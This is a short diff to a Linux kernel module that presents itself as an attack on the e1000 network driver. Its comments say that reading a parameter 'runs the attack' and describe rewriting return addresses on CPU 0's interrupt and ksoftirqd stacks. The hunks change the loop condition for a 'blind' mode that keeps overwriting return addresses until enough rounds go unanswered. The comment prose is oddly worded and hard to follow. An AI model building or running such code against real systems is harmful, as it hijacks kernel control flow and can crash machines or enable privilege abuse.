@@ -13,7 +13,7 @@
  *	gates		where its gates are (.text.guard): the re-entry gate's address on the stack says that a call has left the module, or had
  *	rounds		how often to ask; it ends at the first time that nothing is answered, and when the driver has been steered often enough
  *	blind		instead, asks for the link, which takes no lock (entry and inner are e1000_get_link and e1000_has_link), writes as soon as the return address is
- *			there, and goes on when nothing is answered: is it sooner than the first instruction that looks?
+ *			there, and goes on until nothing was answered often enough: is it sooner than the first instruction that looks?
  *	results		reading it runs the attack: "rounds steered unanswered writes"
  *	stack		instead, with the per-CPU address of hardirq_stack_ptr: rewrites every return address into [text, text + size), to another such, on the two
  *			stacks that CPU 0 receives packets on, its interrupt stack and that of ksoftirqd/0, whatever goes on there, for rounds milliseconds: "writes"
@@ -47,7 +47,7 @@ module_param(blind, bool, 0644);
 #define NUMBERS 64
 #define UNTOUCHED 0x5a5a5a5a5a5a5a5aull
 #define FUNCTION 512 /* bytes of `entry` to look at */
-#define ENOUGH 10    /* times that the driver is steered */
+#define ENOUGH 10    /* times that the driver is steered, or blindly hit */
 #define INNER 2048   /* bytes of `inner` */
 #define NEAR 32	     /* words of the inner function's frame */
 #define REENTRY 16   /* the second gate */
@@ -105,7 +105,7 @@ static int ask(void *unused)
 	static struct ethtool_stats request;
 	static u64 numbers[NUMBERS];
 
-	for (asked = 0; asked < rounds && (blind || (!unanswered && steered < ENOUGH)); asked++) {
+	for (asked = 0; asked < rounds && (blind ? unanswered < ENOUGH : !unanswered && steered < ENOUGH); asked++) {
 		int i;
 
 		if (blind) {
